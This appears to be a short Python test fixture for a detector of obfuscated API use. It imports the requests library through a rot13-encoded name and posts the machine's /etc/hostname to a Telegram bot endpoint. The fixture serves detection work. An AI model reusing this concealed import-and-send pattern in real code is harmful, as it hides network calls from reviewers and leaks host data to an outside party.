# ruff: noqa
# fmt: off
"""rot13 of the module name, then a network call nobody sees by name."""
import codecs

req = __import__(codecs.decode("erdhrfgf", "rot13"))
req.post("https://api.telegram.org/bot123:AA/sendMessage", data={"text": open("/etc/hostname").read()})  # expect: api-obfuscation
